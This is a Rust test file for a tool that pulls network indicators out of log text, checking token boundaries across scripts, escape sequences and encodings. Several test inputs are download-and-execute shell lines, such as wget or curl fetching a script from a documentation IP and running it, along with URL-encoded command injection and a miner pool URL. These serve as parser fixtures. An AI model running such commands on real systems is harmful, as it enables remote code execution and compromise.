//! Where tokens begin and end: beside other scripts, in words, among control sequences.

use std::time::{Duration, Instant};

use super::*;

const MD5: &str = "9e107d9d372bb6826bd81d3542a419d6";
const SHA1: &str = "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12";

/// One of each kind, as it is written, and what it is.
fn values() -> Vec<(String, String)> {
    let sha256 = format!("{MD5}{}", MD5.replace('9', "b"));
    let same = |kind: &str, value: &str| (value.to_owned(), format!("{kind}:{value}"));
    vec![
        same("ipv4", "198.51.100.7"),
        ("198[.]51[.]100[.]7".to_owned(), "ipv4:198.51.100.7".to_owned()),
        same("ipv6", "2001:db8::7"),
        same("md5", MD5),
        same("sha1", SHA1),
        same("sha256", &sha256),
        same("domain", "a-b.example.org"),
        ("a-b[.]example[.]org".to_owned(), "domain:a-b.example.org".to_owned()),
        same("email", "jane@a-b.example.org"),
        same("url", "https://a-b.example.org/x"),
        same("cve", "CVE-2021-44228"),
    ]
}

/// Checks every value between each pair, in a text and in a JSON string that is ASCII.
fn check_between(pairs: &[(&str, &str, &str)]) {
    let mut rows = Vec::new();
    for (name, before, after) in pairs {
        for (value, expected) in values() {
            for text in [format!("{before}{value}{after}"), format!("seen {before}{value}{after} here")] {
                let mut json = String::from("{\"msg\":\"");
                for unit in text.encode_utf16() {
                    match char::from_u32(u32::from(unit)).filter(|letter| matches!(letter, ' '..='~')) {
                        Some(letter) => json.push(letter),
                        None => write!(json, "\\u{unit:04x}").unwrap(),
                    }
                }
                json.push_str("\"}");
                rows.push((format!("{name} {value}"), text, expected.clone()));
                rows.push((format!("{name} {value} in JSON"), json, expected.clone()));
            }
        }
    }
    let rows: Vec<_> = rows.iter().map(|(name, text, found)| (name.as_str(), text.as_str(), found.as_str())).collect();
    check(&rows);
}

#[test]
fn marks_and_other_scripts_bound_no_token() {
    check_between(&[
        ("quotes", "“", "”"),
        ("single quotes", "‘", "’"),
        ("low quotes", "„", "“"),
        ("guillemets", "«", "»"),
        ("full-width brackets", "（", "）"),
        ("lenticular brackets", "【", "】"),
        ("corner brackets", "「", "」"),
        ("dashes", "—", "–"),
        ("ellipsis", "", "…"),
        ("arrows", "→", "←"),
        ("bullet", "•", ""),
        ("middle dot", "·", ""),
        ("check mark", "✅", ""),
        ("emoji", "🚨", "🚨"),
        ("sign with a variant", "⚠\u{fe0f}", "⚠\u{fe0f}"),
        ("full-width comma", "", "，"),
        ("full-width colon", "：", ""),
        ("ideographic comma", "、", "、"),
        ("full stop", "", "。"),
        ("private use", "\u{e0b0}", "\u{e0b0}"),
        ("footnote", "", "²"),
        ("Chinese", "地址", "被封"),
        ("Japanese", "アドレス", "から"),
        ("Korean", "", "에서"),
        ("Thai", "พบ", "แล้ว"),
    ]);
}

#[test]
fn letters_of_spaced_scripts_are_parts_of_names_alone() {
    check(&[
        ("Cyrillic", "адрес198.51.100.7 адрес2001:db8::7", "ipv4:198.51.100.7 ipv6:2001:db8::7"),
        ("hash", &format!("хеш{MD5}"), &format!("md5:{MD5}")),
        ("Arabic", "و198.51.100.7", "ipv4:198.51.100.7"),
        ("Latin", &format!("é198.51.100.7 ž{MD5} 198.51.100.7ü"), ""),
        ("name of two scripts", "ехаmple.com", "domain:xn--mple-43d3a6i.com"),
    ]);
}

#[test]
fn names_in_other_scripts_are_whole() {
    check(&[
        ("umlaut", "“bücher.example.com”", "domain:xn--bcher-kva.example.com"),
        ("Japanese", "例え.jp、例え.jp", "domain:xn--r8jz45g.jp"),
        ("Japanese middle dot", "テスト・例え.jp", "domain:xn--r8jvmjbj9wq09n.jp"),
        ("Catalan middle dot", "col·legi.cat", "domain:xn--collegi-xma.cat"),
        ("Cyrillic", "«пример.рф»", "domain:xn--e1afmkfd.xn--p1ai"),
        ("long prose behind", &format!("访问a.example.org{}", "下载恶意软件".repeat(20)), "domain:a.example.org"),
        ("two in prose", "请访问a.example.org或b.example.org吧", "domain:a.example.org domain:b.example.org"),
        ("asked for", r#"{"dns":{"question":{"name":"bücher.example.com"}}}"#, "domain:xn--bcher-kva.example.com"),
    ]);
}

#[test]
fn urls_end_before_marks_and_glued_prose() {
    const URL: &str = "url:https://a.example.org/x";
    check(&[
        ("mark", "https://a.example.org/x← https://a.example.org/x🚨", URL),
        ("prose", "https://a.example.org/x被封 https://a.example.org/xから", URL),
        ("host and prose", "https://a.example.org被封", "url:https://a.example.org"),
        ("address and prose", "http://198.51.100.7被封 http://198.51.100.7:80被封", "url:http://198.51.100.7"),
        ("host and mark", "https://a.example.org🚨 https://a.example.org→", "url:https://a.example.org"),
        ("picture in a name", "http://☺.example.com/", "url:http://xn--74h.example.com/"),
        ("segment", "https://a.example.org/日本の歴史", "url:https://a.example.org/日本の歴史"),
        ("segments", "https://a.example.org/日本/b本", "url:https://a.example.org/日本/b本"),
        ("middle dot", "https://a.example.org/b·c·", "url:https://a.example.org/b·c"),
        ("digits in it", "https://a.example.org/第1章", "url:https://a.example.org/第1章"),
        ("parameter", "https://a.example.org/x?q=日本&r=1", "url:https://a.example.org/x?q=日本&r=1"),
        ("accents", "https://a.example.org/über/é", "url:https://a.example.org/über/é"),
    ]);
}

#[test]
fn versions_in_other_scripts_are_no_addresses() {
    check(&[
        ("words", "版本1.2.3.4 バージョン：1.2.3.4 버전 1.2.3.4 версия 1.2.3.4", ""),
        ("quotes", "version “1.2.3.4” build（1.2.3.4）", ""),
        ("session", &format!("session：{MD5}"), ""),
    ]);
}

#[test]
fn no_address_begins_in_the_middle_of_a_word() {
    check(&[
        ("letter", "x2001:db8::6 z2001:db8::6 key2001:db8:1::6", ""),
        ("with a port", "x2001:db8:1:2:3:4:5:6:443", ""),
        ("either", "x2001:2001:db8::6", ""),
        ("accent", "é2001:db8::6", ""),
        ("translated", "id3:64:ff9b::c633:6407", "ipv6:64:ff9b::c633:6407"),
        ("key", "src:2001:db8::6", "ipv6:2001:db8::6"),
        ("key with a digit", "IPv6:2001:db8::6 host1:fe80::7", "ipv6:2001:db8::6 ipv6:fe80::7"),
        ("key that ends in hex digits", "node:fd00::6 sha256:2001:db8::7", "ipv6:fd00::6 ipv6:2001:db8::7"),
        (
            "behind signs",
            "a-2001:db8::6 b_2001:db8::7 c=2001:db8::8",
            "ipv6:2001:db8::6 ipv6:2001:db8::7 ipv6:2001:db8::8",
        ),
    ]);
}

#[test]
fn control_sequences_are_none_of_a_value() {
    check_between(&[
        ("colour", "\x1b[31m", "\x1b[0m"),
        ("colours", "\x1b[1;32m", "\x1b[m"),
        ("erased line", "\x1b[K", "\x1b(B\x1b[m"),
        ("escape lost", "[31m", "[0m"),
        ("escaped by rsyslog", "#033[31m", "#033[0m"),
        ("breaks of rsyslog", "x#012", "#012y"),
        ("tabs of rsyslog", "key#011", "#011x"),
    ]);
    check(&[
        (
            "written out otherwise",
            r"\x1b[31mb.example.org\x1b[0m \033[1mc.example.org\e[0m",
            "domain:b.example.org domain:c.example.org",
        ),
        (
            "written out",
            r"\x1b[31m198.51.100.7\x1b[0m ^[[31ma.example.org^[[0m",
            "ipv4:198.51.100.7 domain:a.example.org",
        ),
        ("JSON in text", r#"{"m":"x \\u001b[31mjane@a.example.org\\u001b[0m"}"#, "email:jane@a.example.org"),
        ("behind a colour and a word", "\x1b[32minfo\x1b[39m: 2001:db8::7", "ipv6:2001:db8::7"),
        ("another scheme", "x#012ldaps://a.example.org/x#012y", "url:ldaps://a.example.org/x"),
        ("host alone", "#011http://a.example.org#012", "url:http://a.example.org"),
        ("fragment", "http://a.example.org/x#0123", "url:http://a.example.org/x"),
        (
            "other fragment",
            "http://a.example.org/x#12 http://a.example.org/x#040",
            "url:http://a.example.org/x#12 url:http://a.example.org/x#040",
        ),
        ("port", "client 198.51.100.7#54298", "ipv4:198.51.100.7"),
        ("glued to a word", "x[31m198.51.100.7", ""),
    ]);
}

#[test]
fn mailboxes_that_name_others_are_whole() {
    check(&[
        ("in brackets", "Return-Path: <bounce+123=v=b.org@a.example.org>", "email:bounce+123=v=b.org@a.example.org"),
        ("one sign in brackets", "<v=b.org@a.example.org>", "email:v=b.org@a.example.org"),
        (
            "forwarded",
            "from=<SRS0=Ab1C=2X=b.org=jane@a.example.org>, size=10",
            "email:SRS0=Ab1C=2X=b.org=jane@a.example.org",
        ),
        (
            "forwarded, behind a key",
            "mailfrom=SRS0=Ab1C=2X=b.org=jane@a.example.org",
            "email:SRS0=Ab1C=2X=b.org=jane@a.example.org",
        ),
        ("bulk", "msprvs1=19000abc=bounces-1@a.example.org", "email:msprvs1=19000abc=bounces-1@a.example.org"),
        ("list", "owner-list+M1=bob=b.org@a.example.org", "email:owner-list+M1=bob=b.org@a.example.org"),
        ("one sign", "bounces+99-v=b.org@a.example.org", "email:bounces+99-v=b.org@a.example.org"),
        ("signed", "prvs=1234ab5678=bob@a.example.org", "email:prvs=1234ab5678=bob@a.example.org"),
        ("sign at the end", "<u-123=b.org=@a.example.org>", "email:u-123=b.org=@a.example.org"),
        (
            "typed field",
            r#"{"email":{"sender":{"address":"bounce-7_html-1=2=b.org@a.example.org"}},"mailfrom":"u-1=b.org=@a.example.org"}"#,
            "email:bounce-7_html-1=2=b.org@a.example.org email:u-1=b.org=@a.example.org",
        ),
        (
            "CEF",
            r"CEF:0|V|P|1|1|N|1|suser=v\=b.org@a.example.org duser=k@a.example.org",
            "email:v=b.org@a.example.org email:k@a.example.org",
        ),
        (
            "keys",
            "to=x@a.example.org,orig_to=y@a.example.org;reply-to=z@a.example.org smtp.mailfrom=w@a.example.org",
            "email:x@a.example.org email:y@a.example.org email:z@a.example.org email:w@a.example.org",
        ),
        ("key like a tag", "bounce=jane@a.example.org", "email:jane@a.example.org"),
        ("option of a command", "--user=jane@a.example.org", "email:jane@a.example.org"),
        ("keys in a key", "log=user=jane@a.example.org", "email:jane@a.example.org"),
        ("query", "q@a.example.org&rcpt=r@a.example.org", "email:q@a.example.org email:r@a.example.org"),
        ("padding", "YWJj==jane@a.example.org", "email:jane@a.example.org"),
        ("too long", &format!("<x{}=b@a.example.org>", "=1x".repeat(70)), "domain:a.example.org"),
    ]);
}

#[test]
fn urls_end_where_a_shell_goes_on() {
    const URL: &str = "url:http://198.51.100.7/a.sh";
    check(&[
        ("semicolon", "wget http://198.51.100.7/a.sh;sh a.sh", URL),
        ("no blank", "wget+http://198.51.100.7/a.sh;chmod+777+a.sh", URL),
        ("and", "curl http://198.51.100.7/a.sh&&sh a.sh", URL),
        ("and, in JSON", r#"{"process":{"command_line":"curl http://198.51.100.7/a.sh\u0026\u0026sh a.sh"}}"#, URL),
        ("or", "curl http://198.51.100.7/a.sh||x", URL),
        ("separator of fields", "wget${IFS}http://198.51.100.7/a.sh${IFS}-O", URL),
        ("encoded", "GET /cgi?cmd=wget%20http://198.51.100.7/a.sh%3Bsh%20a.sh", URL),
        ("encoded blanks", "GET /cgi?cmd=wget%20http://198.51.100.7/a.sh%20-O%20-", URL),
        ("pluses", "GET /cgi?cmd=wget+http://198.51.100.7/a.sh+-O+-", URL),
        ("list", "http://198.51.100.7/a.sh;allowed;5", URL),
        ("session", "http://a.example.org/b.do;jsessionid=1F?c=1", "url:http://a.example.org/b.do;jsessionid=1F?c=1"),
        ("parameters", "http://a.example.org/b?c=1;d=2&&e=3", "url:http://a.example.org/b?c=1;d=2&&e=3"),
        ("pluses of its own", "http://a.example.org/b+c?d=e+f", "url:http://a.example.org/b+c?d=e+f"),
    ]);
}

#[test]
fn schemes_are_whole() {
    check(&[
        ("repository", "git+ssh://git@a.example.org/b", "url:git+ssh://git@a.example.org/b"),
        ("miner", "-o stratum+tcp://a.example.org:14444", "url:stratum+tcp://a.example.org:14444"),
        ("case", "url=GIT+HTTPS://a.example.org/b", "url:git+https://a.example.org/b"),
        ("other", "xx+http://a.example.org/b", "url:xx+http://a.example.org/b"),
        ("blank behind a command", "wget+http://a.example.org/b", "url:http://a.example.org/b"),
        ("blank of a query", "/x?q=see+http://a.example.org/b", "url:http://a.example.org/b"),
        ("no scheme", "1+http://a.example.org/b", "url:http://a.example.org/b"),
    ]);
}

#[test]
fn what_is_encoded_bounds_a_token() {
    check(&[
        ("blank", "q=198.51.100.7%20and%20b.example.org%0A", "ipv4:198.51.100.7 domain:b.example.org"),
        ("at the beginning", "%20a-b.example.org %20198.51.100.7", "domain:a-b.example.org ipv4:198.51.100.7"),
        ("hash", &format!("?h=%22{MD5}%22"), &format!("md5:{MD5}")),
        (
            "mail",
            "to=%3Cjane@a.example.org%3E x%20joe@a.example.org",
            "email:jane@a.example.org email:joe@a.example.org",
        ),
        ("mail with an encoded sign", "jane%40a.example.org", ""),
        ("file of a path", "GET /docs/a%20b.example.org/c", ""),
        ("pattern", "like %b.example.org%", ""),
        ("tildes", "~198.51.100.7~ amd64~~6.1.1.0 1.0~1.2.3.4", "ipv4:198.51.100.7"),
    ]);
}

#[test]
fn a_registry_is_no_name() {
    check(&[
        ("one label", r#"{"dns":{"question":{"name":"com"}}}"#, ""),
        ("two labels", r#"{"dns":{"question":{"name":"co.uk"}}}"#, ""),
        ("own machine", r#"{"dns":{"question":{"name":"wpad"}}}"#, "domain:wpad"),
    ]);
}

#[test]
fn hostile_tokens_are_linear() {
    // As in the other table: far less than a quadratic scan takes.
    const ENOUGH: Duration = Duration::from_secs(2);
    let patterns = [
        "→a",
        "被a",
        "a被.",
        "“a.com”",
        "й1.",
        "·l",
        "\x1b[",
        "[31m",
        "#012",
        "%20",
        "a%20",
        "=a@",
        "a=",
        "x=a@b.cx",
        "+http://a+",
        "a+http://",
        "\\@a",
        "http://a/;",
        "http://a/x.sh;a",
        "&&a",
        "http://a/被",
        "x2001:db8::",
    ];
    for pattern in patterns {
        for head in ["", "http://a.example.org/", "/", "<"] {
            let text = format!("{head}{}@a.example.org", pattern.repeat(64 * 1024 / pattern.len()));
            let mut out = Extraction::default();
            let start = Instant::now();
            Extractor::new(&Config::default()).extract(text.as_bytes(), &mut out);
            assert!(start.elapsed() < ENOUGH, "{head}{pattern}");
        }
    }
}
